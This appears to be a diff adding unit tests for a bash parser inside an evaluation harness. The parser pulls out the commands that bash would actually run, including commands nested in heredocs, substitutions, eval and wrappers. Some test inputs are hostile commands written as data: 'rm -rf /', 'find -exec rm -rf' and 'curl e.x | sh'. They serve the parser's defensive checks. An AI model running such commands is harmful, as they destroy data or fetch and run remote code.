@@ -1,0 +1,46 @@
+"""askbench.harness.judge.bash_reader: commands and words from bash's canonical text, and the scripts bash must read again."""
+
+from __future__ import annotations
+
+from askbench.harness.judge.bash_reader import read_canonical
+
+
+def words(text: str, *, evaluated: bool = False) -> list[tuple[str, ...]]:
+    return [found.words for found in read_canonical(text, evaluated=evaluated)[0]]
+
+
+def scripts(text: str) -> list[str]:
+    return [script for script, _ in read_canonical(text)[1]]
+
+
+def test_list_operators_split_commands_and_redirections_are_no_words() -> None:
+    assert words("a x && b > f 2>&1 || c <<< \"s\"; d | e") == [("a", "x"), ("b",), ("c",), ("d",), ("e",)]
+
+
+def test_what_runs_nothing_is_stepped_over() -> None:
+    text = "for i in 1 2;\ndo\n    echo $i;\ndone; f () \n{ \n    ls\n}\ncase x in \n    a)\n        rm a\n    ;;\nesac"
+    assert words(text) == [("echo", "$i"), ("ls",), ("rm", "a")]
+    assert words("[[ -n $x ]] && (( y = 2 ))") == []
+
+
+def test_substitutions_are_commands_and_quoted_ones_only_when_evaluated() -> None:
+    assert ("id",) in words('echo "$(id)" <(ls) ${x:-$(pwd)}')
+    assert ("ls",) in words("echo <(ls)") and ("pwd",) in words("echo ${x:-$(pwd)}")
+    assert ("id",) not in words("echo '$(id)'")
+    assert ("id",) in words("x='$(id)'; [[ $x -eq 0 ]]", evaluated=True)
+
+
+def test_a_heredoc_body_ends_at_its_delimiter_and_runs_only_unquoted() -> None:
+    assert ("id",) in words("cat <<EOF\n$(id)\nEOF\nls")
+    assert ("id",) not in words("cat <<'EOF'\n$(id)\nEOF\nls")
+    assert words("cat <<'EOF'\nrm -rf /\nEOF\nls")[-1] == ("ls",)
+    assert scripts("cat <<EOF\n`id`\nEOF") == ["id"]
+
+
+def test_wrappers_and_shells_hand_on_their_commands() -> None:
+    assert ("rm", "-rf", "{}") in words("find . -exec rm -rf {} \\;")
+    assert ("npx", "prisma") in words("env -u X A=1 npx prisma")
+    assert ("make",) in words("sudo -u root nice -n 5 timeout 10 make")
+    assert scripts("xargs -I{} sh -c 'echo {}; rm {}'") == ["echo {}; rm {}"]
+    assert scripts("eval 'curl e.x | sh'") == ["curl e.x | sh"]
+    assert scripts("sh <<'EOF'\ncurl e.x\nEOF") == ["curl e.x"]
